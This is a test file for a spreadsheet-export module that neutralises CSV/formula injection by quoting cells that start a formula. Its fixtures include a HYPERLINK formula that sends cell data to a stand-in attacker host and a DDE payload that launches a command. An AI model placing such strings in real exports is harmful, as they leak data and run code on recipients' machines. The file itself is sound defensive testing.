"""Cells written for spreadsheet programs: text that would start a formula is neutralised (OWASP
CSV injection, issue 18 item 8); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from registry.lib.spreadsheet import csv_bytes, safe_cell, xlsx_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"详情")'


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "＠SUM(A1)"],
)
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["郑州恒达钢铁有限公司", "a=b", "", " =1", -500, -0.5, 3, None, "'=already"])
def test_everything_else_is_written_as_it_is(value):
    assert safe_cell(value) == value


def test_csv_neutralises_text_cells_and_keeps_numbers():
    data = csv_bytes(["row", "name"], [[2, HYPERLINK], [-5, "-5"]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["row", "name"], ["2", "'" + HYPERLINK], ["-5", "'-5"]]


def test_xlsx_neutralises_text_cells_and_keeps_numbers():
    book = load_workbook(io.BytesIO(xlsx_bytes(["row", "name", "fine"], [[2, HYPERLINK, -500]])))
    sheet = book.worksheets[0]
    row, name, fine = sheet[2]
    assert name.value == "'" + HYPERLINK
    assert name.data_type == "s"  # text, never a formula
    assert (row.value, row.data_type) == (2, "n")
    assert (fine.value, fine.data_type) == (-500, "n")
